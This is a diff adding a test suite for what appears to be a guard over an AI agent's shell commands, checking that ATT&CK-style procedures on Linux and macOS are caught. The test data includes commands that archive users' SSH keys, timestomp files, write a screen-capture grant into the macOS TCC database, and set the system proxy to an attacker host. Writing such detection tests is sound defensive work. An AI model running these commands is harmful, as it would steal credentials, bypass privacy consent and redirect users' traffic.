@@ -388,3 +388,22 @@ describe("round 20's configuration and tool readings", () => {
     expect(tool("Write", { file_path: "/home/dev/compliance/src/evidence/models.py", content: "class Evidence: pass\n" }).verdict).toBe("continue");
   });
 });
+
+describe("ATT&CK procedures on Linux and macOS written for this session", () => {
+  it.each([
+    ["tar czf /tmp/.loot.tgz /home/*/.ssh", "action.credential-access.read-store"],
+    ["touch -a -t 197001010000.00 /tmp/x.txt", "action.defense-impairment.timestomp"],
+    [`sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db "insert into access values('kTCCServiceScreenCapture','com.x',0,1,1,NULL,NULL,NULL,'UNUSED',NULL,0,1)"`, "action.defense-impairment.privacy-consent-written"],
+    ["networksetup -setwebproxy Wi-Fi proxy.evil.example 8080", "action.defense-impairment.system-proxy-set"],
+    [`osascript -e 'tell application "System Events" to keystroke "a"'`, "action.execution.gui-scripting"],
+  ])("%s is held", (line, id) => {
+    const v = shell(line);
+    expect(v.verdict).not.toBe("continue");
+    expect(ids(v)).toContain(id);
+  });
+  it.each(["ls ~/.ssh", "touch -t 202601010000 /tmp/stamp", "networksetup -setwebproxystate Wi-Fi off", `osascript -e 'display notification "Build done"'`, `sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db "select service from access"`])("goes: %s", (line) => expect(shell(line).verdict).toBe("continue"));
+  it("a proxy inside the network is a pause, one on the internet a hard stop", () => {
+    expect(paused(shell("networksetup -setwebproxy Wi-Fi proxy.corp.internal 8080"))).toBe(true);
+    expect(shell("networksetup -setwebproxy Wi-Fi proxy.evil.example 8080").verdict).toBe("stop");
+  });
+});
